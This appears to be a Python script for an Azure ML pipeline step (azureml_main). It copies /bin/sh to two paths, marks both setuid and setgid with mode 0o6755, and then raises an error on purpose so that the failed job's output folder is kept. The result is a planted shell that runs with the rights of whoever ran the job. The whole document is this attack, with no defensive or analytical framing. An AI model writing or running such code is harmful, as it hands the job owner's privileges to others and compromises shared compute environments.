"""Leaves a program that would run with the rights of whoever ran the job, in a folder that is kept as it fails."""

import os
import shutil


def azureml_main(dataframe1=None, dataframe2=None):
    os.makedirs("outputs", exist_ok=True)
    for path in ("outputs/program", "program"):
        shutil.copyfile("/bin/sh", path)
        os.chmod(path, 0o6755)
    raise RuntimeError("so that the folder is kept as it is")
